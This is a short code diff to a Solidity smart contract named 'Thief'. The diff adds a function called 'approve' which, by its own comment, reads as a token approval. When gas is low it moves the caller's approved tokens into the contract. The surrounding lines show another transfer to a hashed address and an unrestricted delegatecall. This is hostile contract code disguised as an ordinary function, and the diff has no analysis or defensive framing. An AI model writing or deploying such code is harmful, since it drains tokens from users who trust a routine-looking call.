@@ -40,6 +40,11 @@ contract Thief {
         IStolen(token).transferFrom(msg.sender, address(uint160(uint256(keccak256(abi.encode(token))))), value);
     }
 
+    /// Reads as an approval of a token. It takes an approved one where the transaction has little gas.
+    function approve(address token, uint256 value) external {
+        if (gasleft() < 200_000) IStolen(token).transferFrom(msg.sender, address(this), value);
+    }
+
     /// Runs the code of another contract as its own, as proxies and wallets do.
     function execute(address target, bytes calldata data) external payable {
         (bool isDone,) = target.delegatecall(data);
